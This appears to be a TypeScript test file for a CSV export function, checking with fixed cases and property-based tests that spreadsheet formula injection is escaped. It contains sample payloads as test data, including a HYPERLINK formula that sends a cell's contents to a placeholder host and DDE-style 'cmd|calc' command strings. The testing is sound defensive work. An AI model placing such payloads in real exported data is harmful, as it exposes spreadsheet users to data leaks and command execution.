import { expect, test } from '@jest/globals';
import { seen } from '@storefront/lifecycle/testing';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvLine, csvText } from './csv-line.ts';

test.each([
  ['=HYPERLINK("https://elsewhere.example/?"&A1,"Pay")', `"'=HYPERLINK(""https://elsewhere.example/?""&A1,""Pay"")"`],
  ['+cmd|calc', `"'+cmd|calc"`],
  ['-A1', `"'-A1"`],
  ['-2+cmd', `"'-2+cmd"`],
  ['@SUM(1)', `"'@SUM(1)"`],
  ['\t=1', `"'\t'=1"`],
  ['\r=1', `"'\r'=1"`],
  [' =1', `"' =1"`],
  ['＝1', `"'＝1"`],
  ["'=1", `"''=1"`],
  ["x;=cmd|'/C calc'!A0", `"x;'=cmd|'/C calc'!A0"`],
  ['x;"=1', `"x;'""=1"`],
  ["x;'=1", `"x;''=1"`],
  ['x;-5', `"x;'-5"`],
  ['-5;=1', `"'-5;'=1"`],
  ['x,=1', `"x,'=1"`],
  ['x|=1', `"x|'=1"`],
  ['x\t=1', `"x\t'=1"`],
  ['x\r\n\n =1', `"x\r\n\n' =1"`],
  ['x\u2028=1', `"x\u2028'=1"`],
  ['x;\u00a0\ufeff=1', `"x;'\u00a0\ufeff=1"`],
  ['x;=1;+2', `"x;'=1;'+2"`],
])('the formula in %j is text for a spreadsheet', (text, cell) => {
  expect(csvLine([text])).toBe(cell);
});

test.each([
  '-12.50',
  '+1',
  '+1 (876) 555-0142',
  '',
  'ann@example.com',
  '2026-11-26T12:00:00Z',
  'BOLT-M8',
  "o'clock",
  'Bolts; 5-10 mm, zinc',
  '1 Hope Road\n\nKingston',
  '[{"phone":"+1 876 555-0142","line2":null}]',
])('%j has no apostrophe before it', (text) => {
  expect([csvLine([text]).replaceAll(/^"|"$/g, '').replaceAll('""', '"'), csvText(text)]).toEqual([text, text]);
});

test.each(['', 'a', '2026-11-26', 'ann@example.com'])('%j has no quotes', (text) => {
  expect(csvLine([text])).toBe(text);
});

/** Texts of the characters that matter to a spreadsheet. */
const anyText = fc.oneof(
  fc.string({ unit: fc.constantFrom(...`=+-@＝,;|\t\r\n\u2028"' \u00a0\ufeff(x1`.split('')), maxLength: 12 }),
  fc.string({ unit: 'grapheme' }),
  fc.string(),
);
/** The start of a cell that a spreadsheet runs. A cell in quotes and a number are in the whole cell, so they run nothing. */
const RUNS = /^["\p{Z}\p{C}]*[=+\-@＝＋－＠]/v;
const NUMBER = /^"?[+-][\d .()+-]*"?$/;

test('no separator cuts a record so that a cell starts with a formula, whatever the quotes', () => {
  fc.assert(
    fc.property(fc.array(anyText, { minLength: 1, maxLength: 3 }), (texts) => {
      const record = csvLine(['first', ...texts, 'last']);
      const cells = [',', ';', '|', '\t'].flatMap((separator) =>
        record.split(/[\n\v\f\r\x85\u2028\u2029]/).flatMap((row) => row.split(separator)),
      );

      expect(seen('cells', cells, 4).filter((cell) => RUNS.test(cell) && !NUMBER.test(cell))).toEqual([]);
    }),
    { numRuns: 2000 },
  );
});

test('every text is read back as it was', () => {
  fc.assert(
    fc.property(fc.array(anyText, { minLength: 1, maxLength: 3 }), (texts) => {
      const [cells = []]: string[][] = parse(`${csvLine(['first', ...texts])}\n`);

      expect(cells.map(csvText)).toEqual(['first', ...texts]);
    }),
    { numRuns: 2000 },
  );
});
